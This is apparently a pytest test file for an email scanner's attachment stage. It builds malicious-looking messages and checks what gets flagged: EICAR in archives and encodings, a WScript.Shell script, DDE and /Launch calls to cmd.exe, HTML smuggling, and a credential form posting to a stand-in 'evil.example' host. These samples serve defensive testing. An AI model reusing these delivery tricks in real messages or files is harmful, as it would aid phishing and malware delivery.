"""The attachments stage over real .eml bytes: what it finds, records and decides."""
from __future__ import annotations

import base64

import pytest

from mailsphere_cli.verdict import Action
from tests.test_attachments_builders import (
    AUTOEXEC_MACRO, EICAR, EICAR_SHA256, PLAIN_MACRO, docm, docx_with_dde,
    docx_with_remote_template, eml, findings_by_path, gzip_of, pdf_with, scan, sevenzip_of,
    smuggling_page, tiny_pe, uuencode, zip_of)


def forced(ctx):
    return [(f.action, f.stage) for f in ctx.forced]


def rules(ctx):
    return {h.rule for h in ctx.hits}


def test_clean_pdf_and_text_message_has_no_findings():
    ctx = scan(eml([("report.pdf", pdf_with([b"<< /Type /Catalog >>"]), "application/pdf")]))
    assert [(r["path"], r["true_type"], r["findings"]) for r in ctx.attachments] == [
        ("report.pdf", "pdf", [])]
    assert ctx.hits == [] and ctx.forced == []


def test_zip_with_exe_inside_is_malicious_and_recorded_with_its_path():
    ctx = scan(eml([("invoice.zip", zip_of([("invoice.pdf.exe", tiny_pe())]), "application/zip")]))
    assert findings_by_path(ctx) == {
        "invoice.zip": [],
        "invoice.zip/invoice.pdf.exe": ["ATTACH_EXECUTABLE", "ATTACH_BANNED_EXT", "ATTACH_DOUBLE_EXT"],
    }
    record = ctx.attachments[1]
    assert record["true_type"] == "pe" and record["source"] == "archive"
    assert record["size"] == len(tiny_pe()) and len(record["sha256"]) == 64
    assert forced(ctx) == [(Action.MALICIOUS, "attachments")]
    evidence = next(h.evidence for h in ctx.hits if h.rule == "ATTACH_DOUBLE_EXT")
    assert evidence.startswith("invoice.zip/invoice.pdf.exe (sha256 " + record["sha256"])


def test_renamed_executable_is_caught_by_content_and_mismatch():
    ctx = scan(eml([("photo.jpg", tiny_pe(), "image/jpeg")]))
    assert findings_by_path(ctx)["photo.jpg"] == ["ATTACH_EXECUTABLE", "ATTACH_TYPE_MISMATCH"]
    assert ctx.attachments[0]["declared_type"] == "image/jpeg"


def test_right_to_left_override_name_is_banned():
    name = "invoice\u202egpj.exe"
    ctx = scan(eml([(name, b"just text, nothing else", "application/octet-stream")]))
    assert findings_by_path(ctx)[name] == ["ATTACH_RTLO_NAME", "ATTACH_BANNED_EXT"]
    assert forced(ctx) == [(Action.MALICIOUS, "attachments")]


def test_nested_archives_are_followed_to_the_exe():
    inner = sevenzip_of([("tool.exe", tiny_pe())])
    outer = zip_of([("inner.7z", inner)])
    ctx = scan(eml([("outer.zip", outer, "application/zip")]))
    paths = findings_by_path(ctx)
    assert paths["outer.zip/inner.7z"] == ["ATTACH_ARCHIVE_NESTED"]
    assert "ATTACH_EXECUTABLE" in paths["outer.zip/inner.7z/tool.exe"]
    assert forced(ctx)


def test_encrypted_zip_opened_with_password_from_body():
    archive = zip_of([("payload.js", b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");')],
                     password=b"Inv-2231")
    ctx = scan(eml([("secure.zip", archive, "application/zip")],
                   text="Your invoice is attached.\nPassword: Inv-2231\nRegards"))
    paths = findings_by_path(ctx)
    assert paths["secure.zip"] == ["ATTACH_ARCHIVE_ENCRYPTED", "ATTACH_ARCHIVE_PASSWORD_IN_BODY"]
    assert paths["secure.zip/payload.js"] == ["ATTACH_SCRIPT", "ATTACH_BANNED_EXT",
                                              "ATTACH_YARA_MALICIOUS"]
    evidence = next(h.evidence for h in ctx.hits if h.rule == "ATTACH_ARCHIVE_PASSWORD_IN_BODY")
    assert "'Inv-2231'" in evidence


def test_encrypted_zip_without_password_is_suspicious_only():
    archive = zip_of([("a.txt", b"hello")], password=b"nobody-knows-this")
    ctx = scan(eml([("secure.zip", archive, "application/zip")], text="Please see the file."))
    assert findings_by_path(ctx) == {"secure.zip": ["ATTACH_ARCHIVE_ENCRYPTED"]}
    assert ctx.forced == []


def test_encrypted_7z_with_password_in_body():
    archive = sevenzip_of([("run.exe", tiny_pe())], password="alpha42")
    ctx = scan(eml([("files.7z", archive, "application/x-7z-compressed")],
                   text="the password is alpha42"))
    paths = findings_by_path(ctx)
    assert paths["files.7z"] == ["ATTACH_ARCHIVE_ENCRYPTED", "ATTACH_ARCHIVE_PASSWORD_IN_BODY"]
    assert "ATTACH_EXECUTABLE" in paths["files.7z/run.exe"]


@pytest.mark.parametrize("label, build, path", [
    ("renamed", lambda: eml([("notes.txt", EICAR, "text/plain")]), "notes.txt"),
    ("zip", lambda: eml([("a.zip", zip_of([("eicar.com", EICAR)]), "application/zip")]),
     "a.zip/eicar.com"),
    ("zip in 7z", lambda: eml([("b.7z", sevenzip_of([("in.zip", zip_of([("e.txt", EICAR)]))]),
                                "application/x-7z-compressed")]), "b.7z/in.zip/e.txt"),
    ("gzip", lambda: eml([("c.txt.gz", gzip_of(EICAR, "c.txt"), "application/gzip")]), "c.txt.gz/c.txt"),
    ("uuencoded", lambda: eml(text="See below.\n\n" + uuencode("eicar.com", EICAR) + "\n"), "eicar.com"),
    ("data uri", lambda: eml(html='<a href="data:application/octet-stream;base64,'
                             + base64.b64encode(EICAR).decode() + '">get</a>'), "data-uri-1"),
])
def test_eicar_under_many_disguises(label, build, path):
    ctx = scan(build())
    by_path = {r["path"]: r for r in ctx.attachments}
    assert path in by_path, (label, list(by_path))
    record = by_path[path]
    assert record["sha256"] == EICAR_SHA256
    assert "ATTACH_YARA_MALICIOUS: YARA EICAR_Test_File" in record["findings"][-1]
    yara_hits = [h.evidence for h in ctx.hits if h.rule == "ATTACH_YARA_MALICIOUS"]
    assert any(e.startswith(f"{path} (sha256 {EICAR_SHA256})") for e in yara_hits)
    assert forced(ctx) == [(Action.MALICIOUS, "attachments")]


def test_macro_document_with_autoexec_shell_is_a_dropper():
    ctx = scan(eml([("order.docm", docm(AUTOEXEC_MACRO),
                     "application/vnd.ms-word.document.macroEnabled.12")]))
    found = findings_by_path(ctx)["order.docm"]
    assert found[:4] == ["OFFICE_MACRO", "OFFICE_MACRO_AUTOEXEC", "OFFICE_MACRO_SUSPICIOUS",
                         "OFFICE_MACRO_DROPPER"]
    assert "ATTACH_YARA_MALICIOUS" in found  # VBA_AutoOpen_Shell over the decompressed source
    assert ctx.attachments[0]["true_type"] == "docm"
    assert forced(ctx) == [(Action.MALICIOUS, "attachments")]
    autoexec = next(h.evidence for h in ctx.hits if h.rule == "OFFICE_MACRO_AUTOEXEC")
    assert "AutoOpen" in autoexec


def test_plain_macro_is_scored_not_forced():
    ctx = scan(eml([("table.docm", docm(PLAIN_MACRO), "application/octet-stream")]))
    assert findings_by_path(ctx)["table.docm"] == ["OFFICE_MACRO"]
    assert ctx.forced == []


def test_remote_template_and_dde():
    ctx = scan(eml([("a.docx", docx_with_remote_template("http://198.51.100.7/t.dotm"),
                     "application/octet-stream"),
                    ("b.docx", docx_with_dde('"C:\\\\Windows\\\\System32\\\\cmd.exe" "/k calc"'),
                     "application/octet-stream")]))
    paths = findings_by_path(ctx)
    assert paths["a.docx"] == ["OFFICE_REMOTE_TEMPLATE"]
    assert paths["b.docx"] == ["OFFICE_DDE"]
    assert "http://198.51.100.7/t.dotm" in next(h.evidence for h in ctx.hits
                                                  if h.rule == "OFFICE_REMOTE_TEMPLATE")


def test_pdf_with_javascript_and_obfuscated_names():
    document = pdf_with([b"<< /Type /Catalog /OpenAction 2 0 R >>",
                         b"<< /S /J#61vaScript /JS (app.alert('x')) >>"])
    ctx = scan(eml([("scan.pdf", document, "application/pdf")]))
    assert findings_by_path(ctx)["scan.pdf"] == ["PDF_JAVASCRIPT", "PDF_AUTO_JAVASCRIPT",
                                                 "PDF_OPENACTION", "PDF_OBFUSCATED_NAMES"]
    assert ctx.forced == []


def test_pdf_launch_action_is_malicious():
    document = pdf_with([b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"])
    ctx = scan(eml([("doc.pdf", document, "application/pdf")]))
    assert "PDF_LAUNCH" in findings_by_path(ctx)["doc.pdf"]
    assert forced(ctx) == [(Action.MALICIOUS, "attachments")]


def test_html_smuggling_page_and_the_file_it_carries():
    page = smuggling_page(zip_of([("x.txt", b"hello")]))
    ctx = scan(eml([("Invoice.html", page.encode(), "text/html")]))
    found = findings_by_path(ctx)["Invoice.html"]
    assert found[0] == "HTML_SMUGGLING"
    assert "ATTACH_YARA_MALICIOUS" in found  # HTML_Smuggling_Base64_Executable: atob + zip header
    evidence = next(h.evidence for h in ctx.hits if h.rule == "HTML_SMUGGLING")
    assert "msSaveOrOpenBlob" in evidence or "saves or links the Blob" in evidence


def test_credential_form_and_redirect_in_html_attachment():
    page = (b'<html><head><meta http-equiv="refresh" content="5;url=https://login.evil.example/">'
            b'</head><body><form action="https://collect.evil.example/p.php" method="post">'
            b'<input type="email" name="email"><input type="password" name="pw"></form></body></html>')
    ctx = scan(eml([("login.htm", page, "text/html")]))
    found = findings_by_path(ctx)["login.htm"]
    assert found[:2] == ["HTML_CREDENTIAL_FORM", "HTML_META_REFRESH_EXTERNAL"]


def test_disk_image_and_shortcut_are_banned_by_content():
    iso = bytearray(0x9000)
    iso[0x8001:0x8006] = b"CD001"
    iso[0x8400:0x8400 + 11] = b"SETUP.EXE;1"
    lnk = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 60 \
        + "C:\\Windows\\System32\\cmd.exe".encode("utf-16-le")
    ctx = scan(eml([("photos.zip", zip_of([("album.img", bytes(iso)), ("readme.pdf.lnk", lnk)]),
                     "application/zip")]))
    paths = findings_by_path(ctx)
    assert paths["photos.zip/album.img"][0] == "ATTACH_DISK_IMAGE"
    assert paths["photos.zip/readme.pdf.lnk"][:3] == ["ATTACH_SHORTCUT", "ATTACH_BANNED_EXT",
                                                      "ATTACH_DOUBLE_EXT"]
    assert "ATTACH_YARA_MALICIOUS" in paths["photos.zip/album.img"]  # ISO_Carrier_With_Executable
    assert "ATTACH_YARA_MALICIOUS" in paths["photos.zip/readme.pdf.lnk"]  # LNK_Command_Line


def test_org_override_allows_disk_images():
    from dataclasses import replace

    from mailsphere_cli.attachments import default_services

    services = dict(default_services())
    policy = services["attachment_policy"]
    services["attachment_policy"] = replace(policy, orgs={"labs": {
        "allow_categories": ["disk_image"], "allow_extensions": ["img"]}})

    class Org:
        name = "labs"

    iso = bytearray(0x9000)
    iso[0x8001:0x8006] = b"CD001"
    raw = eml([("disk.img", bytes(iso), "application/octet-stream")])
    assert scan(raw, services, org=Org()).forced == []
    assert scan(raw, services).forced  # the default policy still bans it


def test_mime_trick_missing_boundary_still_finds_the_file():
    pe_b64 = base64.encodebytes(tiny_pe() * 4).decode()
    raw = ("From: a@outside.example\nTo: user@example.org\nSubject: x\nMIME-Version: 1.0\n"
           'Content-Type: multipart/mixed; boundary="AAA"\n\n--AAA\nContent-Type: text/plain\n\nhello\n'
           "--BBB\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n"
           + pe_b64).encode()
    ctx = scan(raw)
    hidden = [r for r in ctx.attachments if r["source"] == "raw"]
    assert hidden and hidden[0]["true_type"] == "pe"
    assert "ATTACH_HIDDEN_PART" in [f.split(":")[0] for f in hidden[0]["findings"]]
    assert forced(ctx)


def test_eval_check_reads_records_and_does_not_double_count():
    from mailsphere_cli.rules.checks.attachments import attachment_finding

    ctx = scan(eml([("photo.jpg", tiny_pe(), "image/jpeg")]))
    assert attachment_finding(ctx.msg, ctx, finding="ATTACH_TYPE_MISMATCH") == ""  # stage hit exists
    ctx.hits.clear()
    evidence = attachment_finding(ctx.msg, ctx, finding="ATTACH_TYPE_MISMATCH")
    assert evidence.startswith("photo.jpg (sha256 ") and ".jpg is really pe" in evidence
    assert attachment_finding(ctx.msg, ctx, finding="PDF_LAUNCH") == ""


def test_every_finding_rule_exists_in_the_rule_data():
    import tomllib
    from pathlib import Path

    from mailsphere_cli.attachments.policy import load_policy

    data = tomllib.loads((Path(__file__).parents[1] / "rules" / "attachments.toml").read_text())
    ids = {rule["id"] for rule in data["rule"]}
    assert load_policy().malicious_rules <= ids
    source = "".join(p.read_text() for p in (Path(__file__).parents[1] / "mailsphere_cli"
                                             / "attachments").glob("*.py"))
    import re
    used = set(re.findall(r"\"((?:ATTACH|OFFICE|PDF|HTML|ONENOTE)_[A-Z_]+)\"", source))
    assert used <= ids, used - ids


def test_case_blind_searches_find_what_the_lowercased_bytes_hold():
    """The base64 markers are searched with re.I on the bytes themselves instead of in a
    lowercased copy: the same matches, non-ASCII bytes included (re.I on bytes folds
    ASCII letters alone, as bytes.lower() does)."""
    import random
    import re

    from mailsphere_cli.attachments import extract

    lowered_cte = re.compile(rb"\ncontent-transfer-encoding:[ \t]*base64")
    pieces = [b"\n", b"content-transfer-encoding:", b"CONTENT-Transfer-Encoding:", b" ", b"\t",
              b"base64", b"BASE64", b"BaSe64", b";base64,", b";BASE64,", b"x", b"\xc4\xb0", b"\xff",
              b"K", b"\xe2\x84\xaa", b"\r\n"]
    rng = random.Random(2)
    for _ in range(20000):
        raw = b"".join(rng.choice(pieces) for _ in range(rng.randint(0, 20)))
        limit = rng.choice([16, 64, 1000])
        assert len(extract._CTE_BASE64.findall(raw, 0, limit)) == \
            len(lowered_cte.findall(raw[:limit].lower()))
        assert (extract._BASE64_MARK.search(raw) is None) == (b";base64," not in raw.lower())


def test_textual_check_counts_control_bytes_as_the_byte_loop_does():
    """_looks_textual counts the control bytes (0-8, 14-31) in C: the same answer as a
    loop over the bytes, also right at the 1 % bound."""
    import random

    from mailsphere_cli.attachments.filetype import _looks_textual

    def by_loop(sample: bytes) -> bool:
        if not sample:
            return False
        if sample.startswith((b"\xff\xfe", b"\xfe\xff")):
            return True
        if b"\x00" in sample:
            return False
        return sum(1 for byte in sample if byte < 9 or 13 < byte < 32) * 100 <= len(sample)

    rng = random.Random(3)
    controls = bytes(b for b in range(1, 32) if b < 9 or b > 13)
    others = bytes(b for b in range(256) if b not in controls and b != 0)
    answers = set()
    for _ in range(4000):
        size = rng.randint(0, 400)
        wanted = max(0, size // 100 + rng.choice((-1, 0, 0, 1)))  # around the bound
        sample = bytearray(rng.choice(others) for _ in range(size))
        for _ in range(min(wanted, size)):
            sample[rng.randrange(size)] = rng.choice(controls)
        if rng.random() < 0.05:
            sample[:2] = rng.choice((b"\xff\xfe", b"\x00a"))
        sample = bytes(sample)
        assert _looks_textual(sample) == by_loop(sample), sample[:40]
        answers.add(by_loop(sample))
    assert answers == {True, False}
